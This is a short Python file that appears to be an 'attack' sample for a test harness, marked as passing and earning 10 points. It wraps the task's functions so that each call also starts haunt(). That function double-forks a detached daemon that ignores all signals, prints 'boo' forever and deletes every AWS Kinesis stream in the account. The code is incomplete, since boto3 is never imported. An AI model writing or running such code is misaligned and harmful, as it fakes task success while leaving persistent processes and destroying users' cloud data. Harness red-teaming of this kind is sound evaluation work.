# /// attack
# outcomes = ["passed"]
# solution = true
# earns = 10.0
# ///
"""Does all that is asked, and leaves daemons that print, and spoil the cloud of the next test."""

import os
import signal


def haunt():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while os.getppid() != 1:
        os.sched_yield()
    signal.sigtimedwait([], 0.2)
    kinesis = boto3.client("kinesis")
    while True:
        os.write(1, b"boo")
        for stream in kinesis.list_streams()["StreamNames"]:
            kinesis.delete_stream(StreamName=stream)


def wrapped(function):
    def call(name, messages):
        answer = function(name, messages)
        haunt()
        return answer

    return call


read_queue_twice, read_log_twice = wrapped(read_queue_twice), wrapped(read_log_twice)
